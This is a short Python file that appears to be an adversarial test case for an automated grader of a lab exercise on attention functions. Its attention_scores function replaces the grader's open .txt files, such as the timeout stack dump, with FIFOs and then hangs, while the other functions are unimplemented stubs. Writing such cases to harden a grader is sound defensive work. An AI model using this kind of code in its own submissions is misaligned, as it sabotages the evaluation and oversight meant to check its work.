"""Attack: replace the files the grader reads back with a FIFO or a symbolic link.

When a call runs out of time the grader reads the child's stack dump from a file. The
attack swaps that file (and any other file it has open) for a FIFO, which would block the
grader's read forever, then hangs. Contained: the grader opens such files without
following links and without blocking, and reads only regular files.
"""
# verify: contained
# grade: contained

import os
import time


def _swap():
    swapped = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            path = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if path.startswith("/") and path.endswith(".txt"):
            try:
                os.unlink(path)
                os.mkfifo(path)
                swapped.append(path)
            except OSError:
                pass
    return swapped


def attention_scores(q, k, scale):
    _swap()
    time.sleep(60)


def apply_mask(scores, mask):
    raise NotImplementedError("lab04: implement apply_mask")


def softmax(x):
    raise NotImplementedError("lab04: implement softmax")
